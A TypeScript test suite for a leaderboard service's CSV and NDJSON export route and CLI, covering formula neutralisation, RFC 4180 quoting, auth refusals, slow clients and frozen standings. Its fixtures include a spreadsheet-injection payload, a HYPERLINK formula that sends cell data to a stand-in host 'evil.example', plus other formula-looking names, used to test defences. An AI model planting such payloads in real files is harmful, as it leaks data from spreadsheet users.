import { once } from 'node:events';
import { connect } from 'node:net';
import postgres from 'postgres';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli } from './helpers/cli.js';
import { movableClock } from './helpers/clock.js';
import { type OracleBoard, type OracleResult, bucketId, foldResults, labelsAt, rankEntries } from './helpers/oracle.js';
import { seeded } from './helpers/random.js';
import { ADMIN_KEY, SERVER_KEY, type TestApp, startTestApp } from './helpers/test-app.js';
import { until } from './helpers/wait.js';

/**
 * GET /export (issue 21, item 4) and the CLI's export: a bucket's whole standings, against the
 * oracle (test/helpers/oracle.ts ranks the results the test sent), the expected bytes written here
 * by the test's own CSV and NDJSON writers; cells a spreadsheet would take for formulas neutralised
 * and the CSV parsed back with the test's own RFC 4180 parser; 401 and 400; a slow reader; a client
 * that goes away; a closed bucket from its frozen standings; the snapshot header; the rank styles.
 */

const CRLF = '\r\n';
const SUBMIT = `mutation($inputs: [SubmitScoreInput!]!) { submitScores(inputs: $inputs) { duplicate } }`;
const UPSERT = `mutation($input: PlayerInput!) { upsertPlayer(input: $input) { id } }`;

/** Display names a spreadsheet or a CSV reader could trip on. */
const TRICKY_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  '+1',
  '-1',
  '@x',
  '=1+2',
  'comma, inside',
  'say "hi"',
  'ünïcödé ☃ 名前 😀',
  "'already quoted",
  ' leading space',
];

/**
 * Names the API refuses today (control characters), written straight into PostgreSQL, as a profile
 * from before that rule may hold: they still come out quoted as RFC 4180 says, and neutralised.
 */
const STORED_NAMES: [string, string][] = [
  ['p40', '\ttabbed'],
  ['p41', 'two\nlines'],
  ['p42', 'carriage\rreturn'],
  ['p43', 'crlf\r\nname, "quoted"'],
  ['p45', '\r=cr formula'],
];

interface Player {
  id: string;
  /** Undefined: the player has no profile at all. */
  name?: string | undefined;
}

interface Expected {
  rank: number;
  playerId: string;
  displayName: string | null;
  score: number;
  achievedAt: string;
  metadata: unknown;
}

type Style = 'ORDINAL' | 'COMPETITION' | 'DENSE';

/** Ranks of an ordered list in a style, counted from scratch for each entry (not as the service streams them). */
function ranksOf(scores: number[], style: Style): number[] {
  return scores.map((score, i) => {
    if (style === 'ORDINAL') return i + 1;
    const better = scores.filter((other) => other > score);
    return 1 + (style === 'COMPETITION' ? better.length : new Set(better).size);
  });
}

/** The test's own CSV writer: formula-looking cells get a leading quote; then RFC 4180 quoting. */
function cell(text: string): string {
  const safe = ['=', '+', '-', '@', '\t', '\r'].includes(text.charAt(0)) ? `'${text}` : text;
  return /[",\r\n]/.test(safe) ? `"${safe.split('"').join('""')}"` : safe;
}

function expectedCsv(rows: Expected[]): string {
  const header = `rank,playerId,displayName,score,achievedAt,metadata${CRLF}`;
  return (
    header +
    rows
      .map((r) =>
        [
          String(r.rank),
          cell(r.playerId),
          cell(r.displayName ?? ''),
          String(r.score),
          r.achievedAt,
          cell(r.metadata === null ? '' : JSON.stringify(r.metadata)),
        ].join(','),
      )
      .map((line) => line + CRLF)
      .join('')
  );
}

function expectedNdjson(rows: Expected[]): string {
  return rows
    .map(
      (r) =>
        `${JSON.stringify({ rank: r.rank, playerId: r.playerId, displayName: r.displayName, score: r.score, achievedAt: r.achievedAt, metadata: r.metadata })}\n`,
    )
    .join('');
}

/** The test's own RFC 4180 reader: records of fields, CRLF between records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else field += text[i++];
      }
      if (i < text.length && text[i] !== ',' && text.slice(i, i + 2) !== CRLF) throw new Error(`text after a quoted field at ${i}`);
      continue;
    }
    if (text[i] === ',') {
      record.push(field);
      field = '';
      i += 1;
    } else if (text.slice(i, i + 2) === CRLF) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      if (text[i] === '\r' || text[i] === '\n' || text[i] === '"') throw new Error(`a bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
      field += text[i++];
    }
  }
  if (field !== '' || record.length > 0) throw new Error('the last record has no CRLF');
  return records;
}

const exportUrl = (t: TestApp, query: Record<string, string>) => `${t.url}/export?${new URLSearchParams(query).toString()}`;

async function getExport(t: TestApp, query: Record<string, string>, key: string | null = ADMIN_KEY) {
  const response = await fetch(exportUrl(t, query), { headers: key === null ? {} : { authorization: `Bearer ${key}` } });
  const bytes = Buffer.from(await response.arrayBuffer());
  return { response, bytes, text: bytes.toString('utf8') };
}

/** What the app's /metrics registry counts: rows exports read from PostgreSQL, exports running. */
async function exportMetrics(t: TestApp): Promise<{ rows: number; inFlight: number }> {
  const metrics = await t.app.parts.metrics.registry.getMetricsAsJSON();
  const rows = metrics.find((m) => m.name === 'leaderboard_export_rows_total')?.values.reduce((sum, v) => sum + v.value, 0) ?? 0;
  const inFlight = metrics.find((m) => m.name === 'leaderboard_exports_in_flight')?.values[0]?.value ?? 0;
  return { rows, inFlight };
}

/** Submits `results` (in batches of 1,000) and answers them as the oracle takes them. */
async function submit(t: TestApp, board: string, results: (OracleResult & { matchId: string })[]): Promise<void> {
  for (let at = 0; at < results.length; at += 1_000) {
    const inputs = results.slice(at, at + 1_000).map((r) => ({
      board,
      playerId: r.playerId,
      score: r.score,
      matchId: r.matchId,
      region: r.region,
      achievedAt: r.achievedAt.toISOString(),
      ...(r.metadata === undefined ? {} : { metadata: r.metadata }),
    }));
    const answer = await t.gql(SUBMIT, { inputs }, { key: SERVER_KEY });
    expect(answer.errors, JSON.stringify(answer.errors)).toBeUndefined();
  }
}

/** The oracle's standings of one bucket, names from `players`, leaving out `without`. */
function oracleRows(
  board: OracleBoard,
  results: OracleResult[],
  players: Map<string, Player>,
  period: string,
  label: string,
  region: string | null,
  style: Style,
  without = new Set<string>(),
): Expected[] {
  const bucket = foldResults(board, results).get(bucketId(period, label, region));
  const ranked = rankEntries(
    board,
    [...(bucket?.values() ?? [])].filter((entry) => !without.has(entry.playerId)),
  );
  const ranks = ranksOf(
    ranked.map((entry) => entry.score),
    style,
  );
  return ranked.map((entry, i) => ({
    rank: ranks[i]!,
    playerId: entry.playerId,
    displayName: players.get(entry.playerId)?.name ?? null,
    score: entry.score,
    achievedAt: new Date(entry.reachedAt).toISOString(),
    metadata: entry.metadata,
  }));
}

describe.each([1, 8])('GET /export on a board of %i shard(s)', (shards) => {
  const BOARD: OracleBoard = { id: `export-${shards}`, order: 'HIGH_FIRST', aggregate: 'BEST', periods: ['ALL_TIME', 'DAILY'] };
  const random = seeded(21_000 + shards);
  const players = new Map<string, Player>();
  const results: (OracleResult & { matchId: string })[] = [];
  const flagged = new Set<string>();
  let t: TestApp;
  let base: Date;

  beforeAll(async () => {
    t = await startTestApp();
    const created = await t.admin(`mutation($input: CreateBoardInput!) { createBoard(input: $input) { id } }`, {
      input: { id: BOARD.id, title: 'Export', maxScore: 1_000_000, periods: BOARD.periods, regions: ['eu'], shards },
    });
    expect(created.errors).toBeUndefined();
    // Player ids a spreadsheet would take for formulas too, and players with and without profiles.
    const ids = [...Array.from({ length: 60 }, (_, i) => `p${i}`), '=cmd', '-p', '+p', '@p', 'p,comma', 'p"quote'];
    ids.forEach((id, i) => players.set(id, { id, name: i % 5 === 4 ? undefined : i < TRICKY_NAMES.length ? TRICKY_NAMES[i] : `Player ${i}` }));
    for (const player of players.values()) {
      if (player.name === undefined) continue;
      // A profile without a name for one: an empty cell, as a player without a profile has.
      const answer = await t.server(UPSERT, { input: { id: player.id, ...(player.id === 'p3' ? {} : { displayName: player.name }) } });
      expect(answer.errors, JSON.stringify(answer.errors)).toBeUndefined();
      if (player.id === 'p3') player.name = undefined;
    }
    const direct = postgres(t.databaseUrl, { max: 1, onnotice: () => {} });
    for (const [id, name] of STORED_NAMES) {
      expect((await direct`update players set display_name = ${name} where id = ${id}`).count).toBe(1);
      players.get(id)!.name = name;
    }
    await direct.end();
    // Within the last few minutes (one day's bucket, but for a run at midnight); equal scores at
    // equal instants, so that ties are broken by the player id alone, as the index does within a unit.
    base = new Date(Date.now() - 60_000);
    let match = 0;
    for (const player of players.values()) {
      for (let k = 0; k < random.int(1, 3); k++) {
        const score = random.int(0, 12) * 1_000;
        results.push({
          playerId: player.id,
          score,
          matchId: `m${match++}`,
          region: random.chance(0.5) ? 'eu' : null,
          achievedAt: new Date(base.getTime() - score),
          ...(random.chance(0.5) ? { metadata: { map: random.pick(['a,b', 'say "x"', '=1+1', 'ü']), n: random.int(0, 9) } } : {}),
        });
      }
    }
    await submit(t, BOARD.id, results);
    // A flagged player is left out of an open bucket's export, as from its reads.
    const flag = await t.admin(`mutation { flagPlayer(playerId: "p7", reason: "cheat") { id } }`);
    expect(flag.errors).toBeUndefined();
    flagged.add('p7');
  });

  const cases = [
    { period: 'ALL_TIME', region: null },
    { period: 'ALL_TIME', region: 'eu' },
    { period: 'DAILY', region: null },
    { period: 'DAILY', region: 'eu' },
  ] as const;

  it.each(cases)('CSV and NDJSON of $period (region $region) are byte for byte the oracle', async ({ period, region }) => {
    const label = period === 'ALL_TIME' ? 'all' : labelsAt(base)[period]!;
    const want = oracleRows(BOARD, results, players, period, label, region, 'ORDINAL', flagged);
    expect(want.length).toBeGreaterThan(10);
    const query = { board: BOARD.id, period, bucket: label, ...(region ? { region } : {}) };
    const csv = await getExport(t, { ...query, format: 'csv' });
    expect(csv.response.status, csv.text).toBe(200);
    expect(csv.response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.bytes.equals(Buffer.from(expectedCsv(want), 'utf8')), `${csv.text}\n----\n${expectedCsv(want)}`).toBe(true);
    const ndjson = await getExport(t, { ...query, format: 'ndjson' });
    expect(ndjson.response.status).toBe(200);
    expect(ndjson.response.headers.get('content-type')).toBe('application/x-ndjson');
    expect(ndjson.text).toBe(expectedNdjson(want));
    expect(
      ndjson.text
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line) as unknown),
    ).toEqual(want);
  });

  it('the CSV parses back, RFC 4180, with every formula-looking cell neutralised and the rest as stored', async () => {
    const { text, response } = await getExport(t, { board: BOARD.id });
    expect(response.status).toBe(200);
    const records = parseCsv(text);
    expect(records[0]).toEqual(['rank', 'playerId', 'displayName', 'score', 'achievedAt', 'metadata']);
    const want = oracleRows(BOARD, results, players, 'ALL_TIME', 'all', null, 'ORDINAL', flagged);
    expect(records.length - 1).toBe(want.length);
    const unquote = (value: string) => (/^'[=+\-@\t\r]/.test(value) ? value.slice(1) : value);
    for (const [i, record] of records.slice(1).entries()) {
      expect(record).toHaveLength(6);
      const [rank, playerId, displayName, score, achievedAt, metadata] = record as [string, string, string, string, string, string];
      // No cell starts with what a spreadsheet runs as a formula.
      for (const value of [playerId, displayName, metadata]) expect(value).not.toMatch(/^[=+\-@\t\r]/);
      expect([Number(rank), unquote(playerId), unquote(displayName), Number(score), achievedAt]).toEqual([
        want[i]!.rank,
        want[i]!.playerId,
        want[i]!.displayName ?? '',
        want[i]!.score,
        want[i]!.achievedAt,
      ]);
      expect(metadata === '' ? null : JSON.parse(metadata)).toEqual(want[i]!.metadata);
    }
    // Each tricky name is in the file, neutralised where it looked like a formula.
    const names = new Set(records.slice(1).map((record) => record[2]));
    for (const name of [...TRICKY_NAMES, ...STORED_NAMES.map(([, stored]) => stored)]) {
      const id = [...players.values()].find((p) => p.name === name)?.id;
      if (!id || flagged.has(id) || !want.some((row) => row.playerId === id)) continue;
      expect(names.has(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name), name).toBe(true);
    }
    expect(names.has(`'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`)).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")"`);
    expect(text).toContain(`,"'\r=cr formula",`);
    expect(text).toContain(`,"crlf\r\nname, ""quoted""",`);
  });

  it.each(['COMPETITION', 'DENSE'] as const)('rankStyle=%s shares the ranks of ties, in CSV and NDJSON', async (style) => {
    const label = labelsAt(base).DAILY!;
    const want = oracleRows(BOARD, results, players, 'DAILY', label, null, style, flagged);
    expect(new Set(want.map((row) => row.rank)).size).toBeLessThan(want.length);
    const query = { board: BOARD.id, period: 'DAILY', bucket: label, rankStyle: style };
    const csv = await getExport(t, { ...query, format: 'csv' });
    expect(csv.response.headers.get('leaderboard-rank-style')).toBe(style);
    expect(csv.text).toBe(expectedCsv(want));
    expect((await getExport(t, { ...query, format: 'ndjson' })).text).toBe(expectedNdjson(want));
  });

  it('says the snapshot instant and the bucket, and names a safe file', async () => {
    const before = Date.now();
    const { response } = await getExport(t, { board: BOARD.id, period: 'DAILY', region: 'eu' });
    const after = Date.now();
    expect(response.status).toBe(200);
    const snapshotAt = response.headers.get('leaderboard-snapshot-at');
    expect(snapshotAt).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    // PostgreSQL's clock and the test's are the same machine's; a second either way for rounding and the round trip.
    expect(Date.parse(snapshotAt!)).toBeGreaterThanOrEqual(before - 1_000);
    expect(Date.parse(snapshotAt!)).toBeLessThanOrEqual(after + 1_000);
    expect(response.headers.get('leaderboard-closed-at')).toBeNull();
    const label = labelsAt(new Date(Date.parse(snapshotAt!))).DAILY!;
    expect(response.headers.get('leaderboard-bucket')).toBe(label);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="leaderboard-${BOARD.id}-DAILY-${label}-eu.csv"`);
    expect(response.headers.get('cache-control')).toBe('no-store');
  });

  it('an id with characters a file name must not hold is made safe in the file name', async () => {
    const created = await t.admin(`mutation { createBoard(input: { id: "Odd.board_${shards}", title: "Odd", maxScore: 100 }) { id } }`);
    expect(created.errors).toBeUndefined();
    const { response, text } = await getExport(t, { board: `Odd.board_${shards}`, format: 'ndjson' });
    expect(response.status).toBe(200);
    expect(text).toBe('');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="leaderboard-Odd.board_${shards}-ALL_TIME-all.ndjson"`);
  });
});

describe('who may export, and what it refuses', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
    const created = await t.admin(
      `mutation { createBoard(input: { id: "guarded", title: "G", maxScore: 100, periods: [ALL_TIME, DAILY, SEASON], regions: ["eu"] }) { id } }`,
    );
    expect(created.errors).toBeUndefined();
  });

  it('401 without a key, with a wrong one, with a malformed header and with the game-server key', async () => {
    const url = exportUrl(t, { board: 'guarded' });
    for (const headers of [
      {},
      { authorization: 'Bearer wrong-key-0123456789' },
      { authorization: `Basic ${ADMIN_KEY}` },
      { authorization: `Bearer ${SERVER_KEY}` },
    ]) {
      const response = await fetch(url, { headers });
      expect(response.status, JSON.stringify(headers)).toBe(401);
      expect(response.headers.get('www-authenticate')).toBe('Bearer realm="export"');
      expect(((await response.json()) as { error: { code: string } }).error.code).toBe('UNAUTHENTICATED');
    }
    // Refused before anything else: a bad parameter without the key is still 401.
    expect((await fetch(exportUrl(t, { board: 'nothing', format: 'xml' }))).status).toBe(401);
    expect((await getExport(t, { board: 'guarded' })).response.status).toBe(200);
  });

  const refusals: { why: string; query: string; parameter: string; code?: string }[] = [
    { why: 'no board', query: 'format=csv', parameter: 'board' },
    { why: 'an unknown board', query: 'board=no-such-board', parameter: 'board', code: 'NOT_FOUND' },
    { why: 'an unknown period', query: 'board=guarded&period=YEARLY', parameter: 'period' },
    { why: 'a period the board does not keep', query: 'board=guarded&period=WEEKLY', parameter: 'period' },
    { why: 'a malformed bucket', query: 'board=guarded&period=DAILY&bucket=yesterday', parameter: 'bucket' },
    { why: 'a bucket past retention', query: 'board=guarded&period=DAILY&bucket=2001-01-01', parameter: 'bucket', code: 'NOT_FOUND' },
    { why: 'no open season', query: 'board=guarded&period=SEASON', parameter: 'bucket', code: 'NOT_FOUND' },
    { why: 'an unknown season', query: 'board=guarded&period=SEASON&bucket=s9', parameter: 'bucket', code: 'NOT_FOUND' },
    { why: 'an unknown region', query: 'board=guarded&region=mars', parameter: 'region' },
    { why: 'an unknown format', query: 'board=guarded&format=xlsx', parameter: 'format' },
    { why: 'an unknown rank style', query: 'board=guarded&rankStyle=OLYMPIC', parameter: 'rankStyle' },
    { why: 'a repeated parameter', query: 'board=guarded&board=guarded', parameter: 'board' },
    { why: 'a repeated format', query: 'board=guarded&format=csv&format=ndjson', parameter: 'format' },
    { why: 'an unknown parameter', query: 'board=guarded&limit=10', parameter: 'limit' },
    { why: 'an empty value', query: 'board=guarded&region=', parameter: 'region' },
    { why: 'a value over its bound', query: `board=${'b'.repeat(129)}`, parameter: 'board' },
    { why: 'a control character', query: 'board=guarded&bucket=a%0Ab', parameter: 'bucket' },
  ];

  it.each(refusals)('400 naming the parameter: $why', async ({ query, parameter, code }) => {
    const response = await fetch(`${t.url}/export?${query}`, { headers: { authorization: `Bearer ${ADMIN_KEY}` } });
    const body = (await response.json()) as { error: { code: string; parameter: string; message: string } };
    expect(response.status, JSON.stringify(body)).toBe(400);
    expect(body.error.parameter).toBe(parameter);
    expect(body.error.message.startsWith(`${parameter}: `)).toBe(true);
    expect(body.error.code).toBe(code ?? 'BAD_USER_INPUT');
  });

  it('a request target over its bound is refused before it is parsed, and only GET exports', async () => {
    const long = await fetch(`${t.url}/export?board=guarded&bucket=${'x'.repeat(2_100)}`, { headers: { authorization: `Bearer ${ADMIN_KEY}` } });
    expect(long.status).toBe(414);
    const post = await fetch(`${t.url}/export?board=guarded`, { method: 'POST', headers: { authorization: `Bearer ${ADMIN_KEY}` } });
    expect(post.status).toBe(405);
    expect(post.headers.get('allow')).toBe('GET');
  });
});

describe('a slow reader, and a reader that goes away', () => {
  /** Rows of about a kilobyte each, many times what the sockets' buffers and one batch hold between them. */
  const ROWS = 12_000;
  const BATCH = 1_000;
  const BOARD: OracleBoard = { id: 'slow', order: 'HIGH_FIRST', aggregate: 'BEST', periods: ['ALL_TIME'] };
  const results: (OracleResult & { matchId: string })[] = [];
  let t: TestApp;
  let expected: string;

  beforeAll(async () => {
    t = await startTestApp();
    const created = await t.admin(`mutation { createBoard(input: { id: "slow", title: "Slow", maxScore: 1000000 }) { id } }`);
    expect(created.errors).toBeUndefined();
    const at = new Date(Date.now() - 60_000);
    for (let i = 0; i < ROWS; i++) {
      results.push({ playerId: `s${i}`, score: i, matchId: `m${i}`, region: null, achievedAt: at, metadata: { pad: `${i}:`.padEnd(1_000, 'x') } });
    }
    await submit(t, BOARD.id, results);
    expected = expectedCsv(oracleRows(BOARD, results, new Map(), 'ALL_TIME', 'all', null, 'ORDINAL'));
  }, 120_000);

  /** A raw HTTP/1.1 GET of the export that reads nothing until told: its socket and what it took so far. */
  async function pausedRequest() {
    const { port } = new URL(t.url);
    const socket = connect(Number(port), '127.0.0.1');
    await once(socket, 'connect');
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.pause();
    socket.write(`GET /export?board=slow HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${ADMIN_KEY}\r\nConnection: close\r\n\r\n`);
    return { socket, taken: () => Buffer.concat(chunks) };
  }

  it('a client that stops reading holds the export at a batch or so ahead of what its socket took, and then gets every row', async () => {
    const before = await exportMetrics(t);
    const { socket, taken } = await pausedRequest();
    // Wait until the export stands still: the rows read from PostgreSQL stop growing.
    let last = -1;
    let steady = 0;
    await until(
      async () => {
        const { rows } = await exportMetrics(t);
        steady = rows === last && rows > before.rows ? steady + 1 : 0;
        last = rows;
        return steady >= 5;
      },
      30_000,
      'the export to stand still',
      200,
    );
    const readWhileStalled = last - before.rows;
    // The sockets' buffers (the client's receive buffer, the server's send buffer: at most a few
    // MB) and a batch or two: far from the 12 MB an export that buffered would have read by now.
    expect(readWhileStalled).toBeLessThan(ROWS / 2);
    expect(readWhileStalled % BATCH).toBe(0);
    socket.resume();
    await once(socket, 'end');
    const response = taken().toString('utf8');
    const [head, ...rest] = response.split('\r\n\r\n');
    expect(head).toMatch(/^HTTP\/1\.1 200 /);
    expect(head).toMatch(/transfer-encoding: chunked/i);
    expect(dechunk(Buffer.from(rest.join('\r\n\r\n'), 'utf8')).toString('utf8') === expected).toBe(true);
    expect((await exportMetrics(t)).rows - before.rows).toBe(ROWS);
  });

  it('past two exports at once in a process, a third is answered 503 with Retry-After, until one ends', async () => {
    const first = await pausedRequest();
    const second = await pausedRequest();
    await until(async () => (await exportMetrics(t)).inFlight === 2, 10_000, 'two exports running');
    const third = await fetch(exportUrl(t, { board: 'slow' }), { headers: { authorization: `Bearer ${ADMIN_KEY}` } });
    expect(third.status).toBe(503);
    expect(third.headers.get('retry-after')).toBe('10');
    expect(((await third.json()) as { error: { code: string } }).error.code).toBe('UNAVAILABLE');
    first.socket.destroy();
    second.socket.destroy();
    await until(async () => (await exportMetrics(t)).inFlight === 0, 10_000, 'the exports to end');
    expect((await getExport(t, { board: 'slow', format: 'ndjson' })).response.status).toBe(200);
  });

  it('a client that goes away ends the export, its transaction and its cursor', async () => {
    const databaseName = new URL(t.databaseUrl).pathname.slice(1);
    const direct = postgres(t.databaseUrl, { max: 1, onnotice: () => {} });
    try {
      const { socket } = await pausedRequest();
      await until(async () => (await exportMetrics(t)).inFlight === 1, 10_000, 'the export to start');
      /** Sessions of the app's database (but this one) inside a transaction now. */
      const inTransaction = async () =>
        (await direct`select 1 from pg_stat_activity where datname = ${databaseName} and xact_start is not null and pid <> pg_backend_pid()`).length;
      // The export's transaction is open meanwhile (its cursor waiting for the socket to drain).
      await until(async () => (await inTransaction()) === 1, 10_000, 'the export transaction');
      socket.destroy();
      await until(async () => (await exportMetrics(t)).inFlight === 0, 10_000, 'the export to end');
      await until(async () => (await inTransaction()) === 0, 10_000, 'the transaction to end');
      // And the service still exports.
      expect((await getExport(t, { board: 'slow', format: 'ndjson' })).text.split('\n')).toHaveLength(ROWS + 1);
    } finally {
      await direct.end();
    }
  });
});

/** The body of a chunked HTTP/1.1 response. */
function dechunk(body: Buffer): Buffer {
  const parts: Buffer[] = [];
  let at = 0;
  for (;;) {
    const end = body.indexOf('\r\n', at);
    const size = parseInt(body.subarray(at, end).toString('latin1'), 16);
    if (size === 0) return Buffer.concat(parts);
    parts.push(body.subarray(end + 2, end + 2 + size));
    at = end + 2 + size + 2;
  }
}

describe('a closed bucket is exported from its frozen standings', () => {
  const BOARD: OracleBoard = { id: 'closing', order: 'HIGH_FIRST', aggregate: 'BEST', periods: ['ALL_TIME', 'DAILY', 'SEASON'] };
  const clock = movableClock();
  const players = new Map<string, Player>();
  const results: (OracleResult & { matchId: string })[] = [];
  let t: TestApp;
  let day: string;

  beforeAll(async () => {
    t = await startTestApp({ now: clock.now });
    const created = await t.admin(`mutation { createBoard(input: { id: "closing", title: "C", maxScore: 1000, periods: [ALL_TIME, DAILY, SEASON] }) { id } }`);
    expect(created.errors).toBeUndefined();
    expect((await t.admin(`mutation { startSeason(board: "closing", name: "One") { id } }`)).errors).toBeUndefined();
    // In the season, which began as it was started.
    const at = clock.now();
    day = labelsAt(at).DAILY!;
    for (let i = 0; i < 30; i++) {
      players.set(`c${i}`, { id: `c${i}`, name: `Closer ${i}` });
      expect((await t.server(UPSERT, { input: { id: `c${i}`, displayName: `Closer ${i}` } })).errors).toBeUndefined();
      results.push({ playerId: `c${i}`, score: (i * 7) % 11, matchId: `m${i}`, region: null, achievedAt: at });
    }
    await submit(t, BOARD.id, results);
  });

  it('its rows are the frozen ones, as the bucket stood at its close (a later flag changes nothing, an erased player leaves a gap), with a header saying it is final', async () => {
    // The day ends; past its end and the board's grace (300 s), it is closed, then frozen.
    const end = Date.parse(`${day}T00:00:00Z`) + 86_400_000;
    clock.advance(end + 301_000 - clock.now().getTime());
    const live = await getExport(t, { board: 'closing', period: 'DAILY', bucket: day });
    expect(live.response.headers.get('leaderboard-snapshot-at')).not.toBeNull();
    const { prepareExport } = await import('../src/reads/export.js');
    const { list } = await prepareExport(t.app.parts, { board: 'closing', period: 'DAILY', bucket: day });
    // Frozen here, unless the service's own closer got there first: either way once.
    await t.app.parts.storage.frozen.freeze({ lists: [list], closedAt: clock.now() });
    const closed = await t.app.parts.storage.frozen.find({ boardId: 'closing', period: 'DAILY', bucket: day, region: '' });
    expect(closed).not.toBeNull();

    // After the close: a flag (the live list would leave c5 out) and an erasure (c8's row keeps its rank).
    expect((await t.admin(`mutation { flagPlayer(playerId: "c5", reason: "late") { id } }`)).errors).toBeUndefined();
    expect((await t.admin(`mutation { deletePlayer(playerId: "c8") }`)).errors).toBeUndefined();
    for (const style of ['ORDINAL', 'COMPETITION', 'DENSE'] as const) {
      const all = oracleRows(BOARD, results, players, 'DAILY', day, null, style);
      const want = all.filter((row) => row.playerId !== 'c8');
      expect(want).toHaveLength(29);
      const frozen = await getExport(t, { board: 'closing', period: 'DAILY', bucket: day, rankStyle: style });
      expect(frozen.response.status).toBe(200);
      expect(frozen.response.headers.get('leaderboard-closed-at')).toBe(closed!.closedAt.toISOString());
      expect(frozen.response.headers.get('leaderboard-snapshot-at')).toBeNull();
      expect(frozen.text, style).toBe(expectedCsv(want));
    }
  });

  it('a closed season too', async () => {
    const closedSeason = await t.admin<{ closeSeason: { id: string } }>(`mutation { closeSeason(board: "closing") { id } }`);
    expect(closedSeason.errors).toBeUndefined();
    const id = closedSeason.data!.closeSeason.id;
    const frozen = await getExport(t, { board: 'closing', period: 'SEASON', bucket: id, format: 'ndjson' });
    expect(frozen.response.status, frozen.text).toBe(200);
    expect(frozen.response.headers.get('leaderboard-closed-at')).not.toBeNull();
    // The season held every result (the oracle's ALL_TIME); c5 was flagged and c8 erased before it closed: left out.
    const want = oracleRows(BOARD, results, players, 'ALL_TIME', 'all', null, 'ORDINAL', new Set(['c5', 'c8']));
    expect(frozen.text).toBe(expectedNdjson(want));
  });
});

describe('the CLI export', () => {
  it('writes the same bytes as the route, and refuses a bad parameter naming it', async () => {
    const t = await startTestApp();
    const created = await t.admin(`mutation { createBoard(input: { id: "cli", title: "CLI", maxScore: 100, regions: ["eu"] }) { id } }`);
    expect(created.errors).toBeUndefined();
    const at = new Date(Date.now() - 10_000);
    await submit(
      t,
      'cli',
      Array.from({ length: 40 }, (_, i) => ({
        playerId: i % 2 ? `=c${i}` : `c${i}`,
        score: i % 7,
        matchId: `m${i}`,
        region: i % 3 ? 'eu' : null,
        achievedAt: at,
        metadata: { i },
      })),
    );
    for (const args of [[], ['--format', 'ndjson', '--region', 'eu'], ['--rank-style', 'DENSE']]) {
      const route = await getExport(t, {
        board: 'cli',
        ...(args.includes('ndjson') ? { format: 'ndjson', region: 'eu' } : {}),
        ...(args.includes('DENSE') ? { rankStyle: 'DENSE' } : {}),
      });
      const cli = await runCli(t, ['export', '--board', 'cli', ...args]);
      expect(cli.stdout).toBe(route.text);
      expect(cli.stderr).toMatch(/^exported \d+ standings of cli ALL_TIME all.*a snapshot at \d{4}-/m);
    }
    await expect(runCli(t, ['export', '--board', 'cli', '--period', 'DAILY'])).rejects.toMatchObject({
      code: 1,
      stderr: expect.stringMatching(/^period: /) as unknown,
    });
  }, 120_000);
});
